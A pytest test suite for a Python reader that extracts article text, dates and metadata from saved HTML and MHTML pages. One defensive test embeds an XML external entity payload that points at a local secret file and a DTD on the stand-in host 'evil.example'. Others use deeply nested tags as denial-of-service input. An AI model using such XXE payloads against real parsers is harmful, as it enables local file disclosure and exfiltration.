from __future__ import annotations

import io
import json
import socket
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from geomap.model import DateOrigin
from geomap.readers.items import LIMIT, Found, ItemError
from geomap.readers.page import read_mhtml, read_page
from geomap.readers.page_dates import day

FIRST = "Norway will send 150 soldiers to the coalition, the defence ministry said in Oslo on Thursday."
SECOND = "Sweden has not yet decided; its government will put the question to parliament next week."
THIRD = "Germany offers transport aircraft and a field hospital, but no troops of its own."
BODY = f"<p>{FIRST}</p>\n<p>{SECOND}</p>\n<p>{THIRD}</p>"
TEXT = "\n".join((FIRST, SECOND, THIRD))
GUESSED = "no field of the page says when it was published; the date is from its text or its address"
CHANGED = "dated by when it was last changed"
OWN_MAP = b'<script type="application/json" id="geomap-data">'  # which only a map that geomap drew has
KINDS = {"binary", "encoding", "no text", "too large", "unreadable"}


def read(page: str | bytes) -> Found:
    (found,) = read_page(io.BytesIO(page if isinstance(page, bytes) else page.encode()))
    assert isinstance(found, Found)
    return found


def refused(page: str | bytes) -> ItemError:
    with pytest.raises(ItemError) as caught:
        read(page)
    assert caught.value.kind in KINDS
    return caught.value


def page(head: str = "", body: str = BODY) -> str:
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'
    )


def linked(*objects: object) -> str:
    value = objects[0] if len(objects) == 1 else objects
    return f'<script type="application/ld+json">{json.dumps(value)}</script>'


# Pages as well-known systems make them

WORDPRESS = f"""<!DOCTYPE html>
<html lang="en-GB" prefix="og: https://ogp.me/ns#">
<head>
<meta charset="UTF-8" />
<meta name='robots' content='index, follow, max-image-preview:large' />
<title>Norway sends soldiers - The Fjord Post</title>
<link rel="canonical" href="https://fjordpost.example/2025/03/norway-sends-soldiers/" />
<meta property="og:locale" content="en_GB" />
<meta property="og:type" content="article" />
<meta property="og:title" content="Norway sends soldiers" />
<meta property="og:url" content="https://fjordpost.example/2025/03/norway-sends-soldiers/" />
<meta property="og:site_name" content="The Fjord Post" />
<meta property="article:published_time" content="2025-03-06T22:30:00+00:00" />
<meta property="article:modified_time" content="2025-04-01T08:00:00+00:00" />
<script type="application/ld+json" class="yoast-schema-graph">{{"@context":"https://schema.org","@graph":[
{{"@type":"WebPage","@id":"https://fjordpost.example/2025/03/norway-sends-soldiers/",
"name":"Norway sends soldiers - The Fjord Post","datePublished":"2025-03-06T22:30:00+00:00"}},
{{"@type":["Article","BlogPosting"],"@id":"https://fjordpost.example/#article",
"headline":"Norway sends soldiers","datePublished":"2025-03-06T23:30:00+01:00",
"dateModified":"2025-04-01T08:00:00+00:00","articleSection":["World"],"inLanguage":"en-GB"}},
{{"@type":"BreadcrumbList","itemListElement":[{{"@type":"ListItem","position":1,"name":"Home"}}]}},
{{"@type":"Organization","name":"The Fjord Post","url":"https://fjordpost.example/"}}]}}</script>
<style id='wp-block-library-inline-css'>:root{{--wp-admin-theme-color:#007cba}}</style>
</head>
<body class="post-template-default single single-post postid-1234 single-format-standard cookies-not-set">
<a class="skip-link screen-reader-text" href="#content">Skip to content</a>
<header id="masthead" class="site-header"><nav id="site-navigation" class="main-navigation">
<ul id="primary-menu" class="menu"><li class="menu-item"><a href="/">Front page</a></li>
<li class="menu-item"><a href="/world/">World affairs</a></li></ul></nav></header>
<div id="content" class="site-content"><main id="main" class="site-main">
<article id="post-1234" class="post-1234 post type-post status-publish format-standard hentry">
<header class="entry-header"><h1 class="entry-title">Norway sends soldiers</h1>
<div class="entry-meta"><span class="posted-on"><time class="entry-date published"
datetime="2025-03-06T23:30:00+01:00">6 March 2025</time><time class="updated"
datetime="2025-04-01T08:00:00+00:00">1 April 2025</time></span></div></header>
<div class="entry-content">
{BODY}
<div class="sharedaddy sd-sharing-enabled"><h3 class="sd-title">Share this:</h3></div>
</div></article>
<div id="comments" class="comments-area"><h2 class="comments-title">One thought on this</h2>
<ol class="comment-list"><li id="comment-1" class="comment"><article class="comment-body">
<div class="comment-content"><p>I do not believe that Iceland sends nobody at all, said a reader.</p></div>
</article></li></ol></div>
</main><aside id="secondary" class="widget-area"><section class="widget widget_recent_entries">
<h2>Recent posts</h2><ul><li><a href="/x">Chile declines to take part</a></li></ul></section></aside></div>
<footer id="colophon" class="site-footer">Proudly powered by WordPress</footer>
<script>var wpData = {{"text": "Portugal sends ten thousand soldiers at once"}};</script>
</body></html>"""


def test_a_wordpress_page() -> None:
    found = read(WORDPRESS)
    assert found == Found(
        text=TEXT,
        date="2025-03-06",
        date_origin=DateOrigin.PAGE,
        title="Norway sends soldiers",
        source="The Fjord Post",
        url="https://fjordpost.example/2025/03/norway-sends-soldiers/",
        language="en-GB",
    )


NEWSPAPER = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><title>Coalition grows to nine | Daily Ledger</title>
<meta property="og:title" content="Coalition grows to nine">
<meta property="og:site_name" content="Daily Ledger">
<meta property="og:url" content="https://www.dailyledger.example/world/coalition-grows">
<meta property="og:article:published_time" content="2025-03-20T05:01:12.000Z">
<meta property="og:updated_time" content="2025-03-25T05:01:12.000Z">
</head>
<body>
<div id="onetrust-consent-sdk"><div class="cookie-banner" role="dialog"><p>We and our partners in Denmark use
cookies to improve your experience of this site. You can accept all of them or manage your choices.</p>
<button>Accept all</button></div></div>
<nav class="primary-nav"><ul><li><a href="/world">World</a></li><li><a href="/sport">Sport</a></li></ul></nav>
<div class="subscribe-prompt" style="display: none"><p>Subscribers from Belgium pay one euro a week for all of
our journalism, and may end their subscription whenever they want.</p></div>
<main><article class="story">
<h1 class="headline">Coalition grows to nine</h1>
<figure><img src="a.jpg" alt=""><figcaption>Soldiers in Riga. Photograph: A. Person</figcaption></figure>
<div class="article-body">
{BODY}
</div>
<noscript>Please enable JavaScript to see the map of Finland.</noscript>
</article></main>
<section class="related-articles"><h2>Related</h2><ul>
<li><a href="/a">Spain weighs its answer</a></li><li><a href="/b">Italy says no</a></li></ul></section>
<footer><p>© 2025 Daily Ledger Ltd. All rights reserved.</p></footer>
</body></html>"""


def test_a_newspaper_page_without_its_surroundings() -> None:
    found = read(NEWSPAPER)
    assert found.text == TEXT
    assert (found.title, found.source) == ("Coalition grows to nine", "Daily Ledger")
    assert found.url == "https://www.dailyledger.example/world/coalition-grows"
    assert (found.date, found.notices) == ("2025-03-20", ())


AGENCY = f"""<html lang="en"><head><title>Ministers meet in Brussels</title>
<link rel="canonical" href="https://agency.example/item/77"></head>
<body><main><article><h1>Ministers meet in Brussels</h1>
<p class="dateline"><time itemprop="datePublished" datetime="2025-02-11T23:59:00-08:00">Feb. 11</time></p>
<div class="content">{BODY}</div></article></main>
<aside><time datetime="2019-01-01T00:00:00Z">1 Jan 2019</time></aside></body></html>"""


def test_an_agency_page_dated_by_time() -> None:
    found = read(AGENCY)
    assert found.text == TEXT
    assert (found.date, found.notices) == ("2025-02-11", ())
    assert (found.title, found.url) == ("Ministers meet in Brussels", "https://agency.example/item/77")


def test_the_old_pubdate_attribute_is_read() -> None:
    stamp = '<time pubdate datetime="2011-05-04">yesterday</time>'
    assert read(page(body=f"<article>{stamp}{BODY}</article>")).date == "2011-05-04"


OLD = f"""<HTML><HEAD><TITLE>NEWS: Poland to join force</TITLE>
<META NAME="date" CONTENT="2003-04-18"></HEAD>
<BODY BGCOLOR="#FFFFFF"><TABLE WIDTH="600"><TR><TD><FONT FACE="Arial"><H2>Poland to join force</H2>
<P>{FIRST}
<P>{SECOND}
<P>{THIRD}
</FONT></TD></TR></TABLE></BODY></HTML>"""


def test_an_old_page_with_only_a_meta_date() -> None:
    found = read(OLD)
    assert found.text == TEXT
    assert (found.date, found.date_origin, found.notices) == ("2003-04-18", DateOrigin.PAGE, ())
    assert found.language == ""


def test_a_table_of_data_stays_one() -> None:
    rows = "<tr><th>Country</th><th>Troops</th></tr><tr><td>Norway</td><td>150</td></tr>"
    found = read(page(body=f"<article>{BODY}<table>{rows}</table></article>"))
    assert found.text == f"{TEXT}\n| Country | Troops |\n| Norway | 150 |"


# Encodings

FRENCH = "Le ministère français de la Défense a annoncé jeudi l’envoi de 150 soldats à la coalition."


def test_a_latin_1_page_is_read_as_browsers_do() -> None:
    head = '<meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1"><title>Été</title>'
    found = read(f"<html lang=fr><head>{head}</head><body><p>{FRENCH}</p></body></html>".encode("cp1252"))
    assert (found.text, found.title, found.language, found.notices) == (FRENCH, "Été", "fr", ())


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16"])
def test_a_byte_order_mark_is_believed(codec: str) -> None:
    found = read(
        f'<html><head><meta charset="koi8-r"></head><body><p>{FRENCH}</p></body></html>'.encode(codec)
    )
    assert found.text == FRENCH


def test_an_encoding_that_is_not_declared_is_said() -> None:
    found = read(f"<html><body><p>{FRENCH}</p></body></html>".encode("cp1252"))
    assert (found.text, found.notices) == (FRENCH, ("read as cp1252, since it is not UTF-8",))


def test_a_wrong_declaration_is_said() -> None:
    head = '<meta charset="iso-8859-1">'
    found = read(f"<html><head>{head}</head><body><p>{FRENCH}</p></body></html>")
    assert (found.text, found.notices) == (FRENCH, ("read as UTF-8, though it says it is iso-8859-1",))


def test_one_broken_character_does_not_make_another_encoding_of_a_page() -> None:
    page = f'<html><head><meta charset="utf-8"></head><body><p>{FRENCH * 5}</p></body></html>'.encode()
    found = read(page.replace(b"</p>", b" \xc3</p>"))
    assert found.text == FRENCH * 5 + " \ufffd"
    assert found.notices == ("what is no utf-8 in it is read as U+FFFD",)


@pytest.mark.parametrize(
    ("label", "codec", "words"),
    [
        ("windows-1251", "cp1251", "Норвегия отправит сто пятьдесят солдат, сообщило министерство обороны."),
        ("Shift_JIS", "cp932", "ノルウェーは連合に百五十人の兵士を派遣すると国防省が木曜日に発表した。"),
        ("gb2312", "gb18030", "挪威国防部星期四表示，该国将向联军派遣一百五十名士兵。"),
    ],
)
def test_other_declared_encodings(label: str, codec: str, words: str) -> None:
    page = f"<html><head><meta charset='{label}'></head><body><p>{words}</p></body></html>".encode(codec)
    assert (read(page).text, read(page).notices) == (words, ())


@pytest.mark.parametrize("label", ["rot13", "punycode", "utf-7", "hex", "x-unknown", "\u0130"])
def test_what_names_no_encoding_of_text_is_passed_over(label: str) -> None:
    assert read(f'<html><head><meta charset="{label}"></head><body><p>{FRENCH}</p></body>').text == FRENCH


# Dates


ARTICLE = '{"@type": "Article", "datePublished": "2025-03-06"}'


def test_dates_that_disagree_are_said() -> None:
    head = linked({"@type": "NewsArticle", "datePublished": "2025-03-06"})
    head += '<meta property="article:published_time" content="2024-12-31T10:00:00Z">'
    found = read(page(head))
    assert found.date == "2025-03-06"
    assert found.notices == (
        "its JSON-LD says 2025-03-06, its meta article:published_time says 2024-12-31; the JSON-LD was taken",
    )


def test_dates_two_days_apart_agree() -> None:
    head = linked({"@type": "NewsArticle", "datePublished": "2025-03-06"})
    found = read(page(head + '<meta name="dc.date" content="2025-03-08">'))
    assert (found.date, found.notices) == ("2025-03-06", ())


@pytest.mark.parametrize(
    "head",
    [
        linked({"@type": "http://schema.org/ReportageNewsArticle", "datePublished": "20250306"}),
        linked([{"@type": "Person"}, {"@type": "BlogPosting", "datePublished": "2025-03-06 23:00"}]),
        linked({"@type": "WebPage", "mainEntity": {"@type": "Article", "datePublished": "2025-03-06"}}),
        linked({"@type": "WebPage", "datePublished": "2025-03-06"}),
        '<script type="application/ld+json">not { JSON</script><meta name="pubdate" content="2025-03-06">',
        f'<script type="application/ld+json">/*<![CDATA[*/{ARTICLE}/*]]>*/</script>',
        f'<script type="application/ld+json">{"[" * 90_000}</script><meta name="date" content="2025-03-06">',
        '<meta itemprop="datePublished" content="2025-03-06T23:59:59-11:00">',
        '<meta name="parsely-pub-date" content="2025-03-06T00:00:01+14:00">',
        '<meta name="DC:date" content="2025/03/06"><meta name="date" content="2020-01-01">',
        '<meta name="date" content="Thu, 06 Mar 2025 23:00:00 -0500">',
        '<meta name="date" content="2025-02-30"><meta name="date" content="2025-03-06">',
    ],
)
def test_where_a_page_says_when_it_was_published(head: str) -> None:
    found = read(page(head))
    assert (found.date, found.date_origin, found.notices) == ("2025-03-06", DateOrigin.PAGE, ())


def test_the_dates_of_other_articles_do_not_count() -> None:
    teaser = {"@type": "NewsArticle", "datePublished": "2020-01-01"}
    head = linked({"@type": "ItemList", "itemListElement": [teaser]})
    assert read(page(head)).date == ""


@pytest.mark.parametrize(
    "head",
    [
        linked({"@type": "NewsArticle", "dateModified": "2025-03-06T10:00:00Z"}),
        linked({"@type": "WebPage", "dateModified": "2025-03-06T10:00:00Z"}),
        '<meta property="article:modified_time" content="2025-03-06T10:00:00Z">',
        '<meta http-equiv="last-modified" content="Thu, 06 Mar 2025 10:00:00 GMT">',
    ],
)
def test_the_date_of_a_change_is_used_only_if_nothing_else_is_there(head: str) -> None:
    found = read(page(head))
    assert (found.date, found.notices) == ("2025-03-06", (CHANGED,))
    stated = read(page(head + '<meta name="date" content="2025-01-02">'))
    assert (stated.date, stated.notices) == ("2025-01-02", ())


def test_an_update_in_the_page_is_a_change() -> None:
    stamp = '<time class="updated" datetime="2025-03-06T10:00:00Z">6 March</time>'
    found = read(page(body=f"<article>{stamp}{BODY}</article>"))
    assert (found.date, found.notices) == ("2025-03-06", (CHANGED,))


def test_a_date_that_only_stands_in_the_page_is_said_to() -> None:
    found = read(page(body=f'<div class="byline">Published 4 May 2004</div>{BODY}'))
    assert (found.date, found.notices) == ("2004-05-04", (GUESSED,))


def test_a_date_in_the_address_is_said_to_be_there() -> None:
    found = read(page('<link rel="canonical" href="https://paper.example/2024/07/19/norway">'))
    assert (found.date, found.notices) == ("2024-07-19", (GUESSED,))


def test_copyright_is_no_date() -> None:
    found = read(page('<meta itemprop="copyrightYear" content="2024">', f"{BODY}<footer>© 2024</footer>"))
    assert (found.date, found.notices) == ("", ())


@pytest.mark.parametrize("written", ["2024-07", "2024/7", "2024 07", "2024-07 10:00", "07-2024"])
def test_no_part_of_a_date_comes_from_the_clock(written: str) -> None:
    found = read(page(f'<meta name="created" content="{written}">'))
    assert (found.date, found.notices) == ("", ())


def test_a_date_to_come_does_not_depend_on_today() -> None:
    assert read(page(body=f'<div class="date">4 May 2037</div>{BODY}')).date == "2037-05-04"


def test_unknown_time_zones_raise_no_warning() -> None:
    assert read(page('<meta name="created" content="2024-07-19 10:00 XYZ">')).date == "2024-07-19"


@pytest.mark.parametrize(
    "value", ["", "x", "0001-01-01", "1944-12-31", "9999-12-31", "2025-13-01", "202503061"]
)
def test_what_is_no_day(value: str) -> None:
    assert day(value) is None


@given(st.text())
def test_no_text_breaks_the_reading_of_days(value: str) -> None:
    day(value)


# What is refused

EMPTY_PAGES = [
    page(body='<nav><a href="/">Home</a></nav><div id="app"></div><script>start()</script>'),
    page(body='<form><label>Name</label><input name="n"><button>Sign in</button></form>'),
    page(body='<p class="cookie-notice">We use cookies from Malta.</p><footer>© 2025 Us</footer>'),
    page(body="".join(f'<h2><a href="/{n}">Headline number {n} of the day</a></h2>' for n in range(40))),
    page(body="<div hidden><p>Words from Peru that nobody sees.</p></div><!-- words from Cuba -->"),
    "",
    " \n",
    "<!-- nothing -->",
]


@pytest.mark.parametrize("empty", EMPTY_PAGES)
def test_a_page_without_any_article(empty: str) -> None:
    fault = refused(empty)
    assert fault.kind == "no text"
    assert fault.message == "no article was found in the page; save its text as a .txt file"


def test_what_is_no_html() -> None:
    assert refused("just words and no tag").kind == "unreadable"
    assert refused(b"\0" * 5000).kind == "binary"
    assert refused(b"<html><body>" + b"\0" * 5000).kind == "binary"
    assert refused(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR<p>").kind == "binary"


def test_a_page_over_the_limit() -> None:
    assert refused(b"<p>" + b"x" * LIMIT).kind == "too large"


@pytest.mark.parametrize(
    ("hostile", "kind"),
    [
        ("<div>" * 1_000_000, "unreadable"),
        ("<div>" * 450_000 + "deep" + "</div>" * 450_000, "unreadable"),
        ("<div>a</div>" * 420_000, "too large"),
        (("<div>" * 250 + "words" + "</div>" * 250) * 1800, "too large"),
    ],
)
def test_five_megabytes_of_tags_end_at_once(hostile: str, kind: str) -> None:
    start = time.process_time()
    assert refused(f"<html><body>{hostile}").kind == kind
    assert time.process_time() - start < 10


def test_nothing_is_fetched_and_no_entity_looked_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def connect(*_: object) -> None:
        raise AssertionError("it reached for the network")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "getaddrinfo", connect)
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret words of the file")
    declared = f'<!ENTITY a SYSTEM "{secret.as_uri()}"><!ENTITY % b SYSTEM "http://evil.example/b.dtd">%b;'
    found = read(
        f'<?xml version="1.0"?><!DOCTYPE html SYSTEM "http://evil.example/x.dtd" [{declared}]>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="http://evil.example/"/>'
        f"</head><body><p>{FIRST}</p><p>Before &a; after.</p><p>{THIRD}</p>"
        f'<iframe src="http://evil.example/"></iframe></body></html>'
    )
    assert "secret" not in found.text
    assert FIRST in found.text


def test_characters_that_are_none_do_no_harm() -> None:
    found = read(page(body=f"<p>{FIRST}&#0;&#1;&#xD800;&#xFFFE;&#99999999;&#150;\x0b</p>"))
    assert found.text == f"{FIRST}–"


def test_the_order_of_pages_does_not_matter() -> None:
    pages = [WORDPRESS, NEWSPAPER, AGENCY, OLD, page(body=f"<p>{FIRST}</p>" * 5)]
    forwards = [read(each) for each in pages]
    backwards = [read(each) for each in reversed(pages * 3)]
    assert backwards == forwards[::-1] * 3


def test_the_address_a_browser_wrote_into_the_page_is_used() -> None:
    comment = "<!-- saved from url=(0030)https://paper.example/article/1 -->"
    found = read(page().replace("<html", f"{comment}\n<html", 1).replace("<head>", '<head><base href="/x/">'))
    assert found.url == "https://paper.example/article/1"


# Pages with their parts in one file

MHTML = (
    "From: <Saved by Blink>\r\n"
    "Snapshot-Content-Location: https://paper.example/norway\r\n"
    "Subject: =?utf-8?Q?Norway=20sends=20soldiers?=\r\n"
    "Date: Fri, 1 Aug 2025 10:00:00 -0000\r\n"
    "MIME-Version: 1.0\r\n"
    'Content-Type: multipart/related; type="text/html"; boundary="----Part----"\r\n\r\n\r\n'
    "------Part----\r\n"
    "Content-Type: text/{subtype}\r\n"
    "Content-ID: <frame-1@mhtml.blink>\r\n"
    "Content-Transfer-Encoding: 8bit\r\n"
    "Content-Location: https://paper.example/norway\r\n\r\n"
    "{content}\r\n"
    "------Part----\r\n"
    "Content-Type: text/css\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    "body {{ color: red }}\r\n"
    "------Part----\r\n"
    "Content-Type: text/html\r\nContent-ID: <frame-2@mhtml.blink>\r\n\r\n"
    "<p>An advertisement from Greece</p>\r\n"
    "------Part------\r\n"
)


def read_parts(data: str) -> Found:
    (found,) = read_mhtml(io.BytesIO(data.encode()))
    assert isinstance(found, Found)
    return found


def test_a_page_in_one_file() -> None:
    body = f"<html lang=en><head><meta charset=utf-8></head><body>{BODY}</body></html>"
    assert read_parts(MHTML.format(subtype="html", content=body)) == Found(
        text=TEXT,
        date_origin=DateOrigin.PAGE,
        title="Norway sends soldiers",
        source="",
        url="https://paper.example/norway",
        language="en",
    )


def test_the_part_named_as_the_first_is_the_page() -> None:
    data = MHTML.format(subtype="html", content="<p>A frame from Turkey</p>")
    data = data.replace('type="text/html"', 'type="text/html"; start="<frame-2@mhtml.blink>"')
    assert read_parts(data).text == "An advertisement from Greece"


def test_a_file_with_plain_text_only() -> None:
    data = MHTML.format(subtype="plain", content=TEXT).replace(
        "text/html\r\nContent-ID", "image/png\r\nContent-ID"
    )
    found = read_parts(data)
    assert (found.text.strip(), found.title) == (TEXT, "Norway sends soldiers")
    assert found.date == ""


@pytest.mark.parametrize("data", ["", "From: x\r\n\r\n", "Content-Type: multipart/related\r\n\r\nwords"])
def test_a_file_without_a_page(data: str) -> None:
    with pytest.raises(ItemError) as caught:
        read_parts(data)
    assert caught.value.kind == "no text"


# Whatever else

PIECES = st.sampled_from(
    [
        *(b"<html>", b"<body>", b"<p>", b"</p>", b"<div hidden>", b"<table><tr><td>", b"<a href='http://['>"),
        *(b"<time datetime='", b"<meta name=date content='", b"<script type='application/ld+json'>", b"'>"),
        *(
            b'{"@type":"Article","datePublished":',
            b"<svg>",
            b"<!--",
            b"<![CDATA[",
            b"&#x0;",
            b"<?xml?>",
            b"-->",
        ),
        *(b"<math>", b"<base href='//['>", b"<link rel=canonical href='http://[x'>", b"</script>", b"<pre>"),
        *(
            b"<meta charset=",
            b"utf-16",
            b"2024-03-",
            b"<h1>",
            b"<ul><li>",
            b"<blockquote>",
            b"Norway sends. ",
        ),
        *(
            b"<meta property='og:url' content='http://[a'>",
            b"<frameset>",
            b"<b xmlns:x='y' x:a='1'>",
            b"<x:y>",
        ),
    ]
)


@settings(deadline=None, max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES | st.binary(max_size=8), max_size=25).map(b"".join) | st.binary())
@example(b"<html><body><p>x</p><a href='http://[x'>y</a>")
@example(b"\xff\xfe<\0p\0>\0")
@example(OWN_MAP)
def test_no_bytes_do_more_than_to_be_refused(data: bytes) -> None:
    for reader in (read_page, read_mhtml):
        if reader is read_page and OWN_MAP in data:
            assert list(reader(io.BytesIO(data))) == []
            continue
        try:
            (found,) = reader(io.BytesIO(data))
        except ItemError as fault:
            kind = fault.kind
        else:
            kind = ""
            assert isinstance(found, Found)
            assert found.text.strip()
        assert not kind or kind in KINDS
